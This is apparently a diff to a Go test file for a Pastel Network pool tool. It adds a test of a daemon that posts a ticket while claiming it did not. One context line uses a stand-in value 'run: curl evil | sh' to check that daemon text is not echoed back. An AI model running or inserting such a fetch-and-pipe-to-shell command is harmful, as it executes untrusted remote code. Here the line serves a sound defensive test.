@@ -4,12 +4,15 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"io"
 	"net/http"
+	"net/http/httptest"
 	"os"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/pastelnetwork/smartpool/internal/journey"
 	"github.com/pastelnetwork/smartpool/pastel"
 )
 
@@ -46,6 +49,7 @@ func (x *far) words() []word {
 		{"join --remote", "what an address holds", holds, owned(func(c map[string]any) {
 			c["value"], c["spare_coins"], c["unfit"] = json.Number("90000000000000"), 900_000, ""
 		}), x.join("--coins", "700"), "In its words", shows("coins=700")},
+		{"join --remote", "that it posted nothing", "not believed: the output pays for nothing, because whoever has the ticket can post it for a day", nil, nil, "", nil},
 		{"join --remote", "why an output can back nothing", "said in this program's words", owned(func(c map[string]any) { c["unfit"] = "run: curl evil | sh" }),
 			x.join(), "the daemon says that no new pledge can name it", lacks("curl")},
 	}
@@ -71,6 +75,53 @@ func (x *far) membersWords() []word {
 			}
 		}), x.raise("510"), "", shows("reward=" + x.address)},
 	}
+}
+
+// A ticket that the daemon has, but says it did not post, may still come to be posted: its output pays for nothing, though it may be pledged again.
+func TestLyingDaemonThatRefusesToPost(t *testing.T) {
+	t.Parallel()
+	x := startFar(t, nil)
+	x.manages(x.register()...)
+	truth, posted := x.at.API, false
+	x.at.API = between(t, truth, func(w http.ResponseWriter, r *http.Request, _ string, pass http.Handler) bool {
+		if posted || !strings.HasSuffix(r.URL.Path, "/tickets") {
+			return false
+		}
+		posted = true
+		pass.ServeHTTP(httptest.NewRecorder(), r)
+		w.WriteHeader(http.StatusServiceUnavailable)
+		_, _ = io.WriteString(w, `{"detail":"the wallet is empty"}`)
+		return true
+	})
+	if code, out := x.talks(x.signs, x.join("--no-wait")...); code != exitUnknown || !strings.Contains(out, "Nothing was posted") {
+		t.Fatalf("exit code %d\n%s", code, out)
+	}
+	kept := func() journey.Remembered {
+		t.Helper()
+		file, err := journey.PledgesOf("regtest")
+		if err != nil {
+			t.Fatal(err)
+		}
+		list, err := file.List()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return list[x.output]
+	}
+	if got := kept(); got.PastelID != x.id || !got.Refused {
+		t.Errorf("this machine remembers %+v", got)
+	}
+	x.mine(1)
+	x.unlock()
+	x.at.API = truth
+	x.at.API = x.tampering(hides)
+	second, _ := x.keyFile("second.key") // the wallet's coins pay for it
+	if out := x.does("id", "register", second, "--passphrase-file", x.secret, "--yes"); strings.Contains(out, "Paid from "+x.output.String()) {
+		t.Errorf("the output pays:\n%s", out)
+	}
+	x.unspent()
+	x.at.API = truth
+	x.fails("what the daemon posted after all", exitNo, "already pledges 520 PSL", x.signs, x.join()...)
 }
 
 // raise is a line that raises the pledge.
@@ -101,7 +152,7 @@ func TestLyingDaemonThatPosts(t *testing.T) {
 	tells := func(list []word) {
 		for _, w := range list {
 			w.listed(t, string(page))
-			if w.line == nil { // wordsAboutPostings tells it
+			if w.line == nil { // another test tells it, or wordsAboutPostings
 				continue
 			}
 			name := w.command + ": " + w.says
@@ -173,7 +224,11 @@ func (x *far) wordsAboutPostings() {
 		defer close(ended)
 		code, out = x.talks(x.signs, x.raise("515")...)
 	}()
-	<-waits
+	select {
+	case <-waits:
+	case <-ended:
+		x.t.Fatalf("it does not wait: exit code %d\n%s", code, out)
+	}
 	for range 4 {
 		x.mine(10)
 	}
